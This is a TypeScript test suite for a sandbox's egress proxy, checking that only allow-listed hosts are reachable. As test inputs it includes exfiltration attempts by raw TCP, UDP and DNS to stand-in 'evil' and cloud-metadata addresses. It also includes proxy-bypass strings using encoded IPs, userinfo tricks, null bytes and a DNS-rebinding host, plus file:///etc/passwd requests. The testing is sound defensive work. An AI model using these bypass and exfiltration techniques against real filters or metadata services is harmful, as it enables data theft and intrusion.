// Attacks on the way out, run by ../egress.test.ts in a network of its own. What arrived at the servers is the truth, whatever the attacker saw.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import type { Order } from '@capstan/contracts';
import { defineAgent, done, loadConfig, newLog, newMask } from '@capstan/kit';
import { type CommandResult, openSandbox, type Sandbox } from '@capstan/sandbox';
import { newServers } from './servers.ts';
import { addresses, newWorld, type World } from './world.ts';

const place = process.env['CAPSTAN_EGRESS_PLACE'];
if (place === undefined) throw new Error('This is run by egress.test.ts, inside a network of its own.');

let world: World;
let sandbox: Sandbox;
const egressSaid: string[] = [];

before(async () => {
  world = await newWorld(place, newServers(place));
  process.env['DOCKER_HOST'] = world.engine;
  const agent = defineAgent({ queue: 'test', capabilities: ['nothing'], run: async () => done() });
  const config = loadConfig(agent.queue, agent.section, {
    CAPSTAN_SANDBOX_SCOPE: 'egress',
    // Addresses for documentation stand for the world here, so they are allowed by name; where rebind.test leads is not.
    CAPSTAN_SANDBOX_ALLOW: 'api.test:443 api.test:22 registry.test:443 git.test:443 evil.test:80',
  });
  const to = { write: () => {} };
  sandbox = await openSandbox(
    'test',
    config,
    newLog({ service: 'test', instance: 'test', level: 'silent', mask: newMask(), to }),
  );
});

after(async () => {
  await sandbox.end();
  await world.stop();
});

interface Asked {
  readonly egress?: string[];
  readonly env?: Record<string, string>;
}

let tasks = 0;
/** A line for the shell, in a task of its own, which may go where `egress` says. The world's certificate lies in its workspace. */
const sh = async (line: string, { egress = [], env = {} }: Asked = {}): Promise<CommandResult> => {
  world.hits.length = 0;
  egressSaid.length = 0;
  const order = { task_id: `t${++tasks}`, step_id: 's', attempt: 1, sandbox: { egress } } as unknown as Order;
  const silent = { info() {}, warn() {}, debug() {}, error() {} };
  const workspace = await sandbox.open(order, {
    signal: new AbortController().signal,
    log: silent as never,
    output: (stream, chunk) => void (stream === 'egress' && egressSaid.push(String(chunk))),
    masked: (text) => text,
    progress: () => {},
  });
  const certificate = '/sandbox/workspace/world.pem';
  await workspace.write([{ path: 'world.pem', data: world.certificate }]);
  const trust = { NODE_EXTRA_CA_CERTS: certificate, GIT_SSL_CAINFO: certificate, CURL_CA_BUNDLE: certificate };
  try {
    return await workspace.run({ argv: ['sh', '-c', line], env: { ...trust, ...env } });
  } finally {
    workspace.release();
  }
};

const api = ['api.test:443'];

test('the servers can be reached from an ordinary container, so that not being reached means something', async () => {
  world.hits.length = 0;
  const line = `for at in ${addresses.evil}/80 ${addresses.metadata}/80; do exec 3<>/dev/tcp/$at; head -1 <&3; done`;
  const docker = promisify(execFile);
  const { stdout } = await docker('docker', ['run', '--rm', 'capstan/sandbox', 'bash', '-c', line]);
  assert.match(stdout, /HELLO.*\nHELLO/);
  assert.deepEqual(world.hits, [`tcp ${addresses.evil}:80`, `tcp ${addresses.metadata}:80`]);
});

test('what is listed is reached, through curl, Node.js and Python', async () => {
  const line = `curl -sS https://api.test/; node -e 'fetch("https://api.test/").then(async (r) => process.stdout.write(await r.text()))'
    SSL_CERT_FILE=$NODE_EXTRA_CA_CERTS python3 -c 'import urllib.request as u; print(u.urlopen("https://api.test/").read().decode(), end="")'`;
  const { stdout, stderr } = await sh(line, { egress: api });
  assert.equal(stdout, 'hello from api.test\n'.repeat(3), stderr);
  assert.deepEqual([...new Set(world.hits)], [`tcp ${addresses.allowed}:443`]);
  assert.match(egressSaid.join(''), /^api\.test:443 let out$/m);
});

test('npm installs from a registry that is listed', async () => {
  const line = `npm init -y >/dev/null && npm install --no-audit --no-fund --registry https://registry.test/ greeting >&2 && node -p 'require("greeting")'`;
  const { stdout, stderr } = await sh(line, { egress: ['registry.test:443'] });
  assert.equal(stdout, 'hello from a package\n', stderr);
});

test('git clones from a host that is listed, and pushes to it', async () => {
  const line = `git clone -q https://git.test/house.git && cd house && cat README && echo more >>README &&
    git -c user.name=s -c user.email=s@s commit -qam second && git push -q origin main && git ls-remote origin main | cut -f 2`;
  const { stdout, stderr } = await sh(line, { egress: ['git.test:443'] });
  assert.equal(stdout, 'readme\nrefs/heads/main\n', stderr);
});

const direct = `const net = require('node:net'), dgram = require('node:dgram'), dns = require('node:dns').promises;
  const tcp = (host, port) => new Promise((on) => { const s = net.connect({ host, port, timeout: 2000 });
    s.on('data', (d) => on('REACHED ' + d)); s.on('error', (e) => on(e.code)); s.on('timeout', () => { s.destroy(); on('timeout'); }); });
  const udp = (address, type) => new Promise((on) => { const s = dgram.createSocket(type); s.on('error', (e) => on(e.code)); s.send('exfil', 53, address, (e) => on(e ? e.code : 'SENT')); });
  const name = async (server) => { const r = new dns.Resolver({ timeout: 1000, tries: 1 }); r.setServers([server]); return r.resolve4('secret.exfil.test').then(String, (e) => e.code); };
  (async () => {
    const out = [];
    for (const [host, port] of [['${addresses.evil}', 80], ['${addresses.metadata}', 80], ['${addresses.host}', 18080], ['10.240.0.1', 18080], ['2001:db8:1::66', 80]]) out.push(await tcp(host, port));
    out.push(await udp('${addresses.host}', 'udp4'), await udp('2001:db8:1::66', 'udp6'));
    for (const server of ['127.0.0.1', '127.0.0.11', '${addresses.host}']) out.push(await name(server));
    out.push(await dns.lookup('secret.exfil.test').then(String, (e) => e.code));
    console.log(out.join('\\n')); process.exit(); })();`;

test('nothing is reached past the proxy, with a way out or without', async () => {
  for (const egress of [[], api]) {
    const { stdout } = await sh('exec node -e "$SCRIPT"', { egress, env: { SCRIPT: direct } });
    assert.equal(stdout.trim().split('\n').length, 11, stdout);
    assert.doesNotMatch(stdout, /REACHED|SENT|timeout/);
    assert.deepEqual(world.hits, []);
  }
});

const asked = `const net = require('node:net');
  const ask = (first) => new Promise((on) => { const s = net.connect(3128, '127.0.0.1'); let got = ''; s.setTimeout(4000, () => s.destroy());
    s.on('connect', () => s.write(first)); s.on('data', (d) => { got += d; if (/^HTTP.1.1 200/.test(got)) s.write('GET / HTTP/1.0\\r\\n\\r\\n'); }); s.on('error', () => {}); s.on('close', () => on(got.split('\\r')[0])); });
  (async () => { for (const target of JSON.parse(process.env.TARGETS)) console.log(target, '=>', await ask('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'));
    for (const url of ['http://evil.test/', 'http://169.254.169.254/latest/', 'http://api.test/', 'http://api.test:443@evil.test/', 'http://u:p@api.test:443/', '/etc/passwd', 'file:///etc/passwd'])
      console.log(url, '=>', await ask('GET ' + url + ' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')); process.exit(); })();`;

test('the proxy lets out to nothing but what is listed, however it is written', async () => {
  const targets = [
    'api.test:22',
    'api.test:80',
    'evil.test:443',
    'evil.test:80',
    `${addresses.evil}:443`,
    `${addresses.allowed}:443`,
    '3405803842:443',
    '0xcb00710a:443',
    '[::1]:443',
    '[::ffff:203.0.113.66]:443',
    'localhost:18080',
    '127.0.0.1:3128',
    '169.254.169.254:80',
    'api.test:443@evil.test:443',
    'api.test.:443',
    'api.test%00.evil.test:443',
    'api.test',
    ':443',
    'api.test:99999',
  ];
  const { stdout } = await sh('exec node -e "$SCRIPT"', {
    egress: api,
    env: { SCRIPT: asked, TARGETS: JSON.stringify(targets) },
  });
  const lines = stdout.trim().split('\n');
  assert.equal(lines.length, targets.length + 7, stdout);
  for (const line of lines) assert.match(line, /=> HTTP\/1\.1 4\d\d /);
  assert.deepEqual(world.hits, []);
});

test('a listed name that leads inside is refused, and so is TLS for another name or none, or no TLS at all', async () => {
  const tls = `const tls = require('node:tls'), net = require('node:net');
    const go = (servername) => new Promise((on) => { const s = net.connect(3128, '127.0.0.1'); s.write('CONNECT api.test:443 HTTP/1.1\\r\\n\\r\\n');
      s.once('data', () => { const t = tls.connect({ socket: s, servername, rejectUnauthorized: false }, () => { t.write('GET / HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n'); }); let got = ''; t.on('data', (d) => (got += d)); t.on('error', (e) => on('cut')); t.on('close', () => on(got ? 'REACHED' : 'cut')); }); });
    (async () => { console.log(await go('api.test'), await go('evil.test'), await go('')); process.exit(); })();`;
  const { stdout } = await sh('exec node -e "$SCRIPT"', { egress: api, env: { SCRIPT: tls } });
  assert.equal(stdout, 'REACHED cut cut\n');
  const rebind = await sh('curl -sS https://rebind.test:80/', { egress: ['rebind.test:80'] });
  assert.match(rebind.stderr, /403/);
  assert.match(egressSaid.join(''), /rebind\.test:80 refused: it has a private address/);
  assert.deepEqual(world.hits, []);
  // Through the tunnel to 443 in plain words.
  const plain = await sh('curl -sS --proxytunnel http://api.test:443/', { egress: api });
  assert.notEqual(plain.exitCode, 0);
  assert.match(egressSaid.join(''), /no TLS/);
});

test('what is not encrypted goes out too, and only under the name that was listed', async () => {
  const { stdout } = await sh('curl -sS --http0.9 http://evil.test/', { egress: ['evil.test:80'] });
  assert.doesNotMatch(stdout, /Refused by the sandbox/);
  assert.deepEqual(world.hits, [`tcp ${addresses.evil}:80`]);
});
